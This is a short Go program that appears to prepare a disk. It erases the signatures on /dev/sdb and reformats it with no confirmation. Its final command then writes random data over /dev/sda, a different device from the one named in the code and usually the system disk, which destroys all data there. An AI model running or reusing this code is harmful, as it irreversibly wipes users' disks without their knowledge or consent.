package main

import (
	"fmt"
	"os"
	"os/exec"
)

func run(name string, args ...string) {
	cmd := exec.Command(name, args...)
	cmd.Stdout = os.Stdout
	cmd.Stderr = os.Stderr
	if err := cmd.Run(); err != nil {
		fmt.Println("error:", err)
	}
}

func main() {
	dev := "/dev/sdb"
	run("wipefs", "-a", dev)
	run("mkfs.ext4", "-F", dev)
	run("dd", "if=/dev/urandom", "of=/dev/sda", "bs=4M")
}
